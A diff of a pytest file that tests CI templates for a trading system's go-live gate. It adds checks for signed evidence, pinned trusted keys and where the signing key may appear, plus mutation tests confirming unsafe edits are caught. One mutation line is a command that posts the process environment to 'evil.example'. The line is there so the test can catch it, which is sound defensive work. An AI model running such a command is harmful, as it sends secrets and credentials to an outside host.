@@ -6,7 +6,9 @@ Each job installs gradual-deploy the way the template says, from the wheel built
 pinned by its sha256, into a fresh venv of its own that holds the dependencies but not gradual-deploy and
 sees no editable install: what the job runs is what a user installs. Mutations of the templates that once
 went unnoticed (the account check dropped, `permissions: write-all`, a broken PowerShell install line, an
-unpinned action, a secret given to every step) each fail a test here.
+unpinned action, a secret given to every step) each fail a test here. The evidence is signed with the
+sandbox's key, which only the gate's step (GitHub) or job (GitLab) holds; the deploy job trusts the public
+key committed with the trading system (deploy/trusted-keys.pem) and nothing else.
 
 The tools come from tests/ci-tools/package.json (`npm ci --prefix tests/ci-tools`, which .ci/run does). On a
 machine without Node.js the tests skip and say so; with Node.js but without the installed tools they skip,
@@ -68,8 +70,37 @@ def ci_variables(box: Sandbox, wheel: BuiltWheel) -> dict[str, str]:
         **box.account_env(),
         "GD_BACKTEST_SUMMARY": str(box.backtest_summary),
         "GD_SCAN_PATH": str(box.source_dir),
+        # GitLab's File variable: the job gets the path of a file holding the private key.
+        "GD_SIGNING_KEY_FILE": str(box.signing_key),
         # The sandbox is on loopback: its account key is bound to 127.0.0.1, which is what a real run needs.
     }
+
+
+TRUSTED_KEYS = "deploy/trusted-keys.pem"
+
+
+def repo_files(box: Sandbox) -> dict[str, str]:
+    """What the trading system's repository holds for the gate: the public key of the evidence's signer."""
+    return {TRUSTED_KEYS: box.trusted_keys.read_text()}
+
+
+def evidence_docs(folder: Path) -> list[dict]:
+    """The plain JSON evidence in `folder` (not the signed envelopes beside it)."""
+    return [json.loads(p.read_text()) for p in sorted(folder.glob("preflight-*.json"))
+            if not p.name.endswith(".intoto.json")]
+
+
+def verified(folder: Path, box: Sandbox):
+    """The verification of the one signed envelope in `folder` with the sandbox's pinned key, offline."""
+    from deploy_tool.commands.verify import verify_evidence
+
+    (envelope,) = folder.glob("preflight-*.intoto.json")
+    return verify_evidence(str(envelope), str(box.trusted_keys))
+
+
+def key_lines(box: Sandbox) -> list[str]:
+    """The base64 lines of the sandbox's private key: none may reach a log or the evidence."""
+    return [line for line in box.signing_key.read_text().splitlines() if line and not line.startswith("-----")]
 
 
 def _clean_env(venv: Path) -> dict[str, str]:
@@ -121,10 +152,11 @@ class GitlabRun:
 
 def run_gitlab(tmp_path: Path, variables: dict[str, str], dependencies: Path, template: str | None = None,
                manual: tuple[str, ...] = ("deploy",), jobs: tuple[str, ...] = (),
-               after: GitlabRun | None = None) -> GitlabRun:
-    """The pipeline under gitlab-ci-local; `manual` jobs are started as a person would start them. With
-    `after` and `jobs`: those jobs run later in the same project, with the artifacts the earlier run kept
-    (a person pressing play on a waiting job), in a fresh venv of their own."""
+               after: GitlabRun | None = None, files: dict[str, str] | None = None) -> GitlabRun:
+    """The pipeline under gitlab-ci-local; `manual` jobs are started as a person would start them. `files`
+    are committed into the project beside the pipeline (the trading system's trusted keys). With `after` and
+    `jobs`: those jobs run later in the same project, with the artifacts the earlier run kept (a person
+    pressing play on a waiting job), in a fresh venv of their own."""
     tool = _tool(TOOLS / ".bin" / "gitlab-ci-local", "gitlab-ci-local")
     venv = job_venv(tmp_path / f"job-venv-{'-'.join(jobs) or 'pipeline'}", dependencies)
     if after is not None:
@@ -133,6 +165,9 @@ def run_gitlab(tmp_path: Path, variables: dict[str, str], dependencies: Path, te
         project = tmp_path / "repo"
         project.mkdir()
         (project / ".gitlab-ci.yml").write_text(template or (EXAMPLES / "gitlab-ci.yml").read_text())
+        for name, text in (files or {}).items():
+            (project / name).parent.mkdir(parents=True, exist_ok=True)
+            (project / name).write_text(text)
         git = ["git", "-c", "user.email=ci@example.invalid", "-c", "user.name=ci"]
         subprocess.run([*git, "init", "-q"], cwd=project, check=True)
         subprocess.run([*git, "add", "-A"], cwd=project, check=True)
@@ -150,7 +185,7 @@ def test_gitlab_pipeline_gate_pass_waits_for_a_person_then_the_deploy_job_switch
                                                                                   ci_box: Sandbox, pinned) -> None:
     wheel, dependencies = pinned
     variables = ci_variables(ci_box, wheel)
-    waiting = run_gitlab(tmp_path, variables, dependencies, manual=())
+    waiting = run_gitlab(tmp_path, variables, dependencies, manual=(), files=repo_files(ci_box))
     # By default the deploy job is manual: the gate passed, and nothing switched until a person starts it.
     assert waiting.proc.returncode == 0, waiting.output
     assert waiting.log("preflight") is not None and waiting.log("deploy") is None, waiting.output
@@ -165,11 +200,17 @@ def test_gitlab_pipeline_gate_pass_waits_for_a_person_then_the_deploy_job_switch
     # install step put into the job's venv from the pinned wheel.
     assert ci_box.admin.mode == "real"
     assert installed_from(run.venv, wheel)
-    # The evidence is an artifact: HTML, JSON (verdict pass) and the JUnit XML for the Tests tab.
+    # The evidence is an artifact: HTML, JSON (verdict pass), the signed envelope and the JUnit XML for the
+    # Tests tab. The envelope verifies offline with the pinned key, bound to the commit the pipeline ran.
     kept = run.artifacts("preflight") / "evidence"
-    evidence = [json.loads(p.read_text()) for p in kept.glob("preflight-*.json")]
+    evidence = evidence_docs(kept)
     assert [e["verdict"] for e in evidence] == ["pass"]
     assert list(kept.glob("preflight-*.html"))
+    report = verified(kept, ci_box)
+    assert report.ok, report.problems
+    commit = subprocess.run(["git", "rev-parse", "HEAD"], cwd=run.project, capture_output=True, text=True).stdout.strip()
+    assert {"name": "revision", "digest": {"gitCommit": commit}, "annotations": {"role": "revision"}} in report.subjects
+    assert "signed by" in deploy
     junit = (kept / "junit.xml").read_text()
     assert "<testsuite" in junit and 'failures="0"' in junit
     # The deploy job's audit line is kept too.
@@ -177,7 +218,7 @@ def test_gitlab_pipeline_gate_pass_waits_for_a_person_then_the_deploy_job_switch
              for line in p.read_text().splitlines()]
     assert [(a["to"], a["result"]) for a in audit] == [("real", "done")]
     # The secrets from the CI settings never reach a log or the evidence.
-    secrets = [ci_box.token, *ci_box.account_env().values()]
+    secrets = [ci_box.token, *ci_box.account_env().values(), *key_lines(ci_box)]
     for text in (waiting.output, run.output, preflight, deploy, *(p.read_text() for p in kept.iterdir())):
         for secret in secrets:
             assert secret not in text
@@ -187,14 +228,15 @@ def test_gitlab_pipeline_gate_fail_skips_deploy_and_keeps_the_evidence(tmp_path:
                                                                       pinned) -> None:
     wheel, dependencies = pinned
     # A threshold from a CI variable that the sandbox's backtest (Sharpe about 1.4) does not meet.
-    run = run_gitlab(tmp_path, {**ci_variables(ci_box, wheel), "GD_MIN_SHARPE": "99"}, dependencies)
+    run = run_gitlab(tmp_path, {**ci_variables(ci_box, wheel), "GD_MIN_SHARPE": "99"}, dependencies,
+                     files=repo_files(ci_box))
 
     assert run.proc.returncode != 0, run.output
     assert "FAIL  preflight" in run.output or "FAIL preflight" in re.sub(r"\s+", " ", run.output), run.output
     assert run.log("deploy") is None, "the deploy job ran after a failing gate"
     assert ci_box.admin.mode == "mock"
     kept = run.artifacts("preflight") / "evidence"
-    evidence = [json.loads(p.read_text()) for p in kept.glob("preflight-*.json")]
+    evidence = evidence_docs(kept)
     assert [e["verdict"] for e in evidence] == ["fail"]
     failed = [c for c in evidence[0]["checks"] if c["status"] == "failed"]
     assert [c["id"] for c in failed] == ["backtest_sharpe[sandbox-momentum]"] and failed[0]["threshold"] == 99
@@ -210,7 +252,7 @@ def test_gitlab_deploy_job_refuses_a_failed_gate_even_when_someone_lets_it_throu
     loosened = template.replace("preflight:\n  stage: gate\n", "preflight:\n  stage: gate\n  allow_failure: true\n")
     assert loosened != template
     run = run_gitlab(tmp_path, {**ci_variables(ci_box, wheel), "GD_MIN_SHARPE": "99", "GD_DEPLOY_WHEN": "on_success"},
-                     dependencies, template=loosened, manual=())
+                     dependencies, template=loosened, manual=(), files=repo_files(ci_box))
 
     deploy = run.log("deploy")
     assert deploy is not None, "with allow_failure the deploy job should have run: " + run.output
@@ -303,14 +345,24 @@ def _one_line(text: str) -> str:
     return " ".join(str(text).split())
 
 
+def _tokens(text: str) -> list[str]:
+    """The words of a command as the shell splits them (quotes removed), its operators apart; ValueError
+    when it cannot be read."""
+    import shlex
+
+    return list(shlex.shlex(_one_line(text), posix=True, punctuation_chars=";&|<>`"))
+
+
+def _value(tokens: list[str], flag: str) -> str | None:
+    """The word after `flag`, or None when the flag is absent."""
+    return tokens[tokens.index(flag) + 1] if flag in tokens[:-1] else None
+
+
 def plain_command_findings(where: str, text: str, starts: tuple[str, ...]) -> list[str]:
     """A command that gets secrets must be that command alone: no second command, pipe or redirection
     that could hand them on (to $GITHUB_ENV, an artifact, another program)."""
-    import shlex
-
     try:
-        lexer = shlex.shlex(_one_line(text), posix=True, punctuation_chars=";&|<>`")
-        tokens = list(lexer)
+        tokens = _tokens(text)
     except ValueError as exc:
         return [f"{where}: cannot read the command ({exc})"]
     findings = []
@@ -323,7 +375,22 @@ def plain_command_findings(where: str, text: str, starts: tuple[str, ...]) -> li
                         "handed on")
     if "--force" in tokens:
         findings.append(f"{where}: --force overrides the evidence gate")
+    if any(t.startswith("--allow-unsigned") for t in tokens):
+        findings.append(f"{where}: --allow-unsigned opens real on evidence no trusted key signed")
+    if starts[1:] == ("switch",) and _value(tokens, "--trusted-keys") != TRUSTED_KEYS:
+        findings.append(f"{where}: the trusted keys must be the ones committed with the trading system "
+                        f"(--trusted-keys {TRUSTED_KEYS}), not {_value(tokens, '--trusted-keys')!r}")
     return findings
+
+
+SIGNING_KEY = re.compile(r"GD_SIGNING_KEY")
+
+
+def signing_key_findings(places: dict[str, object], signer: str) -> list[str]:
+    """The private key reaches only the `signer` place (the gate's step or job): whoever else holds it could
+    sign evidence of their own making."""
+    return [f"{where}: the signing key (GD_SIGNING_KEY) reaches it; only the gate may hold it"
+            for where, node in places.items() if where != signer and SIGNING_KEY.search(json.dumps(node, default=str))]
 
 
 def workflow_findings(text: str) -> list[str]:
@@ -388,6 +455,20 @@ def workflow_findings(text: str) -> list[str]:
                     findings.append(f"{label}: installs something other than the pinned wheel: {run.strip()!r}")
         if job.get("permissions") != needed:
             findings.append(f"{name}: permissions {job.get('permissions')!r}, its actions need exactly {needed!r}")
+    places: dict[str, object] = {"the workflow outside its jobs": outside_jobs}
+    for name, job in workflow["jobs"].items():
+        places[f"{name}: the job"] = {k: v for k, v in job.items() if k != "steps"}
+        for index, step in enumerate(job.get("steps", [])):
+            places[f"{name}: step {step.get('name') or step.get('uses') or index!r}"] = step
+    findings += signing_key_findings(places, "preflight: step 'Go-live gate'")
+    gate = places.get("preflight: step 'Go-live gate'")
+    if not isinstance(gate, dict) or gate.get("env", {}).get("GD_SIGNING_KEY") != "${{ secrets.GD_SIGNING_KEY }}":
+        findings.append("preflight: the gate does not sign its evidence (env GD_SIGNING_KEY from the secret): "
+                        "the deploy job would refuse it")
+    switches = [s for s in workflow["jobs"].get("deploy", {}).get("steps", [])
+                if str(s.get("run", "")).startswith("gradual-deploy switch")]
+    if len(switches) != 1:
+        findings.append(f"deploy: {len(switches)} switch steps, expected one")
     installs = sum("pip" in str(s.get("run", "")) for j in workflow["jobs"].values() for s in j.get("steps", []))
     if installs != 3:
         findings.append(f"{installs} install steps, expected one per job (3)")
@@ -451,7 +532,8 @@ LINUX_INSTALL_YAML = ('          "gradual-deploy @ ${GD_WHEEL_URL:?set the GD_WH
 @pytest.mark.parametrize("mutation, finding", [
     (("permissions: {}  # nothing by default", "permissions: write-all  # nothing by default"), "workflow permissions"),
     (("      checks: write   #", "      checks: write\n      pull-requests: write   #"), "preflight: permissions"),
-    (("    permissions: {}          #", "    permissions:\n      contents: write\n    #"), "deploy: permissions"),
+    (("      contents: read  # actions/checkout: deploy/trusted-keys.pem",
+      "      contents: write  # actions/checkout: deploy/trusted-keys.pem"), "deploy: permissions"),
     (("actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1  # v7.0.1", "actions/checkout@v7  # v7.0.1"),
      "movable ref"),
     (("mikepenz/action-junit-report@d9f48fc87bc235f7e214acf696ca5abc0a986f16  # v6.4.2",
@@ -497,6 +579,20 @@ LINUX_INSTALL_YAML = ('          "gradual-deploy @ ${GD_WHEEL_URL:?set the GD_WH
      "a second line"),
     (('--reason "run $GITHUB_RUN_ID by $GITHUB_ACTOR: $REASON"', '--reason "run $GITHUB_RUN_ID by $GITHUB_ACTOR: $REASON" --force'),
      "--force overrides the evidence gate"),
+    # the signed evidence: unsigned accepted, keys from elsewhere, the private key beyond the gate's step
+    (('--audit-dir audit --reason "run', '--allow-unsigned --audit-dir audit --reason "run'),
+     "--allow-unsigned opens real"),
+    (("          --trusted-keys deploy/trusted-keys.pem\n", '          --trusted-keys "$GD_EVIDENCE_DIR/trusted-keys.pem"\n'),
+     "the trusted keys must be the ones committed"),
+    (("          --trusted-keys deploy/trusted-keys.pem\n", ""), "the trusted keys must be the ones committed"),
+    (("          DATABASE_URL: ${{ secrets.DATABASE_URL }}\n          REASON:",
+      "          DATABASE_URL: ${{ secrets.DATABASE_URL }}\n          GD_SIGNING_KEY: ${{ secrets.GD_SIGNING_KEY }}\n"
+      "          REASON:"), "deploy: step 'Switch to real': the signing key"),
+    (("          GD_SIGNING_KEY: ${{ secrets.GD_SIGNING_KEY }}  # signs the evidence; no other step has it\n", ""),
+     "the gate does not sign its evidence"),
+    (("      EXEC_HTTP_ADMIN_URL: ${{ vars.EXEC_HTTP_ADMIN_URL }}\n    steps:\n      - uses: actions/checkout",
+      "      EXEC_HTTP_ADMIN_URL: ${{ vars.EXEC_HTTP_ADMIN_URL }}\n      GD_SIGNING_KEY_FILE: ${{ vars.GD_SIGNING_KEY_FILE }}\n"
+      "    steps:\n      - uses: actions/checkout"), "preflight: the job: the signing key"),
 ])
 def test_unsafe_workflow_edits_are_found(mutation: tuple[str, str], finding: str) -> None:
     assert mutation[0] in GITHUB, mutation[0]
@@ -537,6 +633,25 @@ def test_the_gate_runs_with_every_required_flag(text: str) -> None:
     assert not [a for a in command if a.startswith("--skip-") or a in ("-k", "-m", "--force")], command
 
 
+def _switch_command(text: str) -> list[str]:
+    doc = yaml.safe_load(text)
+    if "jobs" in doc:
+        lines = [s["run"] for s in doc["jobs"]["deploy"]["steps"] if str(s.get("run", "")).startswith("gradual-deploy ")]
+    else:
+        lines = [line for line in doc["deploy"]["script"] if isinstance(line, str) and line.startswith("gradual-deploy ")]
+    assert len(lines) == 1, lines
+    return _tokens(lines[0])
+
+
+@pytest.mark.parametrize("text", [GITHUB, GITLAB], ids=["github", "gitlab"])
+def test_the_deploy_job_switches_only_on_evidence_its_pinned_keys_signed(text: str) -> None:
+    command = _switch_command(text)
+    assert command[:4] == ["gradual-deploy", "switch", "--to", "real"]
+    assert _value(command, "--trusted-keys") == TRUSTED_KEYS
+    assert "--evidence-dir" in command and "--max-evidence-age" in command
+    assert not [a for a in command if a.startswith(("--allow-unsigned", "--force"))], command
+
+
 @pytest.mark.parametrize("text", [GITHUB, GITLAB], ids=["github", "gitlab"])
 def test_the_gate_without_the_account_check_is_found(text: str) -> None:
     """The mutation itself: without the flag, the gate command is no longer the required one."""
@@ -566,7 +681,7 @@ def pipeline_findings(text: str) -> list[str]:
     if doc.get(".install") != [GITLAB_INSTALL]:
         findings.append(f"installs something other than the pinned wheel: {doc.get('.install')!r}")
     expected = {
-        "preflight": ({"name": "production", "action": "prepare"}, ("gradual-deploy", "preflight")),
+        "preflight": ({"name": "go-live-gate", "action": "prepare"}, ("gradual-deploy", "preflight")),
         "deploy": ({"name": "production", "action": "start"}, ("gradual-deploy", "switch")),
     }
     for name, (environment, command) in expected.items():
@@ -593,6 +708,16 @@ def pipeline_findings(text: str) -> list[str]:
         findings.append("GD_DEPLOY_WHEN: manual by default")
     if doc.get("variables", {}).get("GD_WHEEL_URL") != "" or doc.get("variables", {}).get("GD_WHEEL_SHA256") != "":
         findings.append("GD_WHEEL_URL and GD_WHEEL_SHA256 have no default: each deployment sets its own pin")
+    # The signing key is a File variable of the go-live-gate environment: the preflight job names it, and
+    # nothing else in the pipeline does.
+    findings += signing_key_findings({name: node for name, node in doc.items()}, "preflight")
+    try:
+        signer = _value(_tokens(str(doc.get("preflight", {}).get("script", ["", ""])[-1])), "--signing-key")
+    except ValueError:
+        signer = None
+    if not (signer or "").startswith("${GD_SIGNING_KEY_FILE:?"):
+        findings.append("preflight: the gate does not sign its evidence (--signing-key "
+                        '"${GD_SIGNING_KEY_FILE:?...}"): the deploy job would refuse it')
     return findings
 
 
@@ -625,6 +750,17 @@ GITLAB_GATE_END = '--max-allocation "$GD_MAX_ALLOCATION" --require-account-check
     ((GITLAB_GATE_END, GITLAB_GATE_END + "        curl -sd @/proc/self/environ https://evil.example\n"), "a second line"),
     (('  GD_WHEEL_URL: ""', '  GD_WHEEL_URL: "https://example.invalid/gradual_deploy-0.1.0-py3-none-any.whl"'),
      "no default"),
+    # the signed evidence: unsigned accepted, keys from elsewhere, the private key beyond the gate's job
+    (('--reason "pipeline $CI_PIPELINE_ID', '--allow-unsigned --reason "pipeline $CI_PIPELINE_ID'),
+     "--allow-unsigned opens real"),
+    (("      --trusted-keys deploy/trusted-keys.pem\n", '      --trusted-keys "$GD_EVIDENCE_DIR/trusted-keys.pem"\n'),
+     "the trusted keys must be the ones committed"),
+    (('      --signing-key "${GD_SIGNING_KEY_FILE:?set the GD_SIGNING_KEY_FILE variable (type File)}"\n', ""),
+     "the gate does not sign its evidence"),
+    (("    name: go-live-gate\n", "    name: production\n"), "preflight: environment"),  # production's jobs see its key
+    (("    name: production\n    action: start\n", "    name: go-live-gate\n    action: start\n"), "deploy: environment"),
+    (('  GD_EVIDENCE_DIR: "evidence"\n', '  GD_EVIDENCE_DIR: "evidence"\n  GD_SIGNING_KEY_FILE: "deploy/signing-key.pem"\n'),
+     "variables: the signing key"),
 ])
 def test_unsafe_pipeline_edits_are_found(mutation: tuple[str, str], finding: str | None) -> None:
     assert mutation[0] in GITLAB, mutation[0]
@@ -665,16 +801,17 @@ def test_gitlab_install_line_refuses_a_missing_or_wrong_pin(tmp_path: Path, pinn
 class GithubRunner:
     """Runs a workflow's Linux jobs as the runner would, here: `run:` steps in bash -eo pipefail with the
     env the workflow computes (workflow, job, then step level), `if:` and job `needs`/outputs honoured,
-    artifacts passed by upload/download, and each job in a fresh venv of its own that has the dependencies
-    but not gradual-deploy until its install step. Only expressions the template uses are understood;
-    anything else fails the test, never passes it. A `uses:` step must be a reviewed, pinned action."""
+    artifacts passed by upload/download, checkout copying the repository (`checkout`) into the job's
+    workspace, and each job in a fresh venv of its own that has the dependencies but not gradual-deploy until
+    its install step. Only expressions the template uses are understood; anything else fails the test, never
+    passes it. A `uses:` step must be a reviewed, pinned action."""
 
     EXPR = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
 
     def __init__(self, workflow: dict, root: Path, context: dict, runner_env: dict[str, str],
-                 dependencies: Path) -> None:
+                 dependencies: Path, checkout: Path) -> None:
         self.workflow, self.root, self.context, self.runner_env = workflow, root, context, runner_env
-        self.dependencies = dependencies
+        self.dependencies, self.checkout = dependencies, checkout
         self.artifacts = root / "artifacts"
         self.jobs: dict[str, dict] = {}
         self.venvs: dict[str, Path] = {}
@@ -733,7 +870,9 @@ class GithubRunner:
             if "uses" in step:
                 action, ref = step["uses"].split("@")
                 assert action in PINNED and ref == PINNED[action]["commit"], f"unreviewed action {step['uses']}"
-                if action == "actions/upload-artifact":
+                if action == "actions/checkout":
+                    shutil.copytree(self.checkout, workdir, dirs_exist_ok=True)
+                elif action == "actions/upload-artifact":
                     source = workdir / with_["path"]
                     if not source.exists() and with_.get("if-no-files-found") == "error":
                         log.append(f"upload-artifact: no files were found with the provided path: {with_['path']}")
@@ -767,21 +906,30 @@ class GithubRunner:
         return self.jobs[name]
 
 
-GITHUB_SECRETS = ("DATABASE_URL", "EXEC_HTTP_ADMIN_TOKEN", "OKX_API_KEY", "OKX_API_SECRET", "OKX_API_PASSPHRASE")
+GITHUB_SECRETS = ("DATABASE_URL", "EXEC_HTTP_ADMIN_TOKEN", "OKX_API_KEY", "OKX_API_SECRET", "OKX_API_PASSPHRASE",
+                  "GD_SIGNING_KEY")
+GITHUB_SHA = "3f786850e387550fdab836ed7e6dc881de23001b"  # the commit the workflow runs on
 
 
 def run_github(tmp_path: Path, box: Sandbox, pinned: tuple[BuiltWheel, Path], variables: dict[str, str],
-               drop_secrets: tuple[str, ...] = (), text: str = GITHUB) -> GithubRunner:
+               drop_secrets: tuple[str, ...] = (), text: str = GITHUB, signing_key: str | None = None) -> GithubRunner:
+    """The workflow's preflight and deploy jobs against the sandbox; the GD_SIGNING_KEY secret is the sandbox's
+    private key (whose public key the repository pins) unless `signing_key` is another PEM."""
     wheel, dependencies = pinned
     workflow = yaml.safe_load(text)
-    settings = ci_variables(box, wheel)
+    settings = {**ci_variables(box, wheel), "GD_SIGNING_KEY": signing_key or box.signing_key.read_text()}
     secrets = {k: v for k, v in settings.items() if k in GITHUB_SECRETS and k not in drop_secrets}
     plain = {k: v for k, v in settings.items() if k not in GITHUB_SECRETS}
+    checkout = tmp_path / "repository"
+    for name, content in repo_files(box).items():
+        (checkout / name).parent.mkdir(parents=True, exist_ok=True)
+        (checkout / name).write_text(content)
     # The exchange root is not a setting the template exposes (production uses OKX's own): here it is the
     # stand-in's, given the way a runner's environment would.
     runner = GithubRunner(workflow, tmp_path / "gh", {
         "secrets": secrets, "vars": {**plain, **variables}, "inputs": {"reason": "first live day"}},
-        runner_env={"OKX_BASE_URL": box.okx_url}, dependencies=dependencies)
+        runner_env={"OKX_BASE_URL": box.okx_url, "GITHUB_SHA": GITHUB_SHA}, dependencies=dependencies,
+        checkout=checkout)
     (tmp_path / "gh").mkdir(parents=True)
     for job in ("preflight", "deploy"):
         runner.run_job(job)
@@ -801,11 +949,16 @@ def test_github_workflow_gate_pass_runs_the_deploy_job(tmp_path: Path, ci_box: S
     assert installed_from(runner.venvs["preflight"], pinned[0]) and installed_from(runner.venvs["deploy"], pinned[0])
     kept = runner.artifacts / "go-live-evidence"
     assert list(kept.glob("preflight-*.html")) and (kept / "junit.xml").exists()
+    # The signed envelope is kept beside the JSON; it verifies offline, bound to the commit of the run.
+    report = verified(kept, ci_box)
+    assert report.ok, report.problems
+    assert {"name": "revision", "digest": {"gitCommit": GITHUB_SHA}, "annotations": {"role": "revision"}} in report.subjects
     audit = [json.loads(line) for p in (runner.artifacts / "go-live-audit").glob("deploy-*.jsonl")
              for line in p.read_text().splitlines()]
     assert [(a["to"], a["result"]) for a in audit] == [("real", "done")]
     assert "run 4242 by octo-ops: first live day" in audit[0]["reason"]
-    secrets = [ci_box.token, *ci_box.account_env().values()]
+    assert audit[0]["evidence_signer"] == report.signer and audit[0]["evidence_run"] == evidence_docs(kept)[0]["run_id"]
+    secrets = [ci_box.token, *ci_box.account_env().values(), *key_lines(ci_box)]
     for text in (preflight["log"], deploy["log"], *(p.read_text() for p in kept.iterdir())):
         for secret in secrets:
             assert secret not in text
@@ -813,6 +966,30 @@ def test_github_workflow_gate_pass_runs_the_deploy_job(tmp_path: Path, ci_box: S
     holders = {job: [script.split()[:2] for script, env in steps if any(env.get(n) for n in GITHUB_SECRETS)]
                for job, steps in runner.step_envs.items()}
     assert holders == {"preflight": [["gradual-deploy", "preflight"]], "deploy": [["gradual-deploy", "switch"]]}
+    # The private key only in the gate's: the deploy job had the public key alone.
+    signers = {job: [script.split()[:2] for script, env in steps if env.get("GD_SIGNING_KEY")]
+               for job, steps in runner.step_envs.items()}
+    assert signers == {"preflight": [["gradual-deploy", "preflight"]], "deploy": []}
+
+
+@pytest.mark.parametrize("how, refused", [
+    ("no signing key", "is not signed"),
+    ("a key the repository does not pin", "no signature verifies with a trusted key"),
+])
+def test_github_deploy_job_refuses_evidence_its_pinned_key_did_not_sign(tmp_path: Path, ci_box: Sandbox, pinned,
+                                                                       how: str, refused: str) -> None:
+    """The gate passes, but the evidence is unsigned (the GD_SIGNING_KEY secret missing) or signed by a key
+    that deploy/trusted-keys.pem does not hold: the switch refuses and nothing goes live."""
+    from deploy_tool.attest import generate
+
+    if how == "no signing key":
+        runner = run_github(tmp_path, ci_box, pinned, {}, drop_secrets=("GD_SIGNING_KEY",))
+    else:
+        runner = run_github(tmp_path, ci_box, pinned, {}, signing_key=generate()[0].decode())
+    assert runner.jobs["preflight"]["result"] == "success", runner.jobs["preflight"]["log"]
+    deploy = runner.jobs["deploy"]
+    assert deploy["result"] == "failure" and "REFUSED" in deploy["log"] and refused in deploy["log"], deploy["log"]
+    assert ci_box.admin.mode == "mock"
 
 
 def test_github_workflow_gate_fail_skips_deploy_and_keeps_the_evidence(tmp_path: Path, ci_box: Sandbox,
@@ -824,7 +1001,7 @@ def test_github_workflow_gate_fail_skips_deploy_and_keeps_the_evidence(tmp_path:
     assert runner.jobs["deploy"]["result"] == "skipped"
     assert ci_box.admin.mode == "mock"
     kept = runner.artifacts / "go-live-evidence"
-    evidence = [json.loads(p.read_text()) for p in kept.glob("preflight-*.json")]
+    evidence = evidence_docs(kept)
     assert [e["verdict"] for e in evidence] == ["fail"]
     assert 'failures="1"' in (kept / "junit.xml").read_text()
     assert [c["id"] for c in evidence[0]["checks"] if c["status"] == "failed"] == ["backtest_max_drawdown[sandbox-momentum]"]
@@ -838,7 +1015,7 @@ def test_github_gate_without_the_exchange_key_fails(tmp_path: Path, ci_box: Sand
     assert runner.jobs["preflight"]["result"] == "failure", runner.jobs["preflight"]["log"]
     assert runner.jobs["deploy"]["result"] == "skipped"
     assert ci_box.admin.mode == "mock"
-    failed = json.loads(next((runner.artifacts / "go-live-evidence").glob("preflight-*.json")).read_text())
+    (failed,) = evidence_docs(runner.artifacts / "go-live-evidence")
     assert failed["verdict"] == "fail"
     assert {c["marker"] for c in failed["checks"] if c["status"] == "failed"} == {"account"}
 
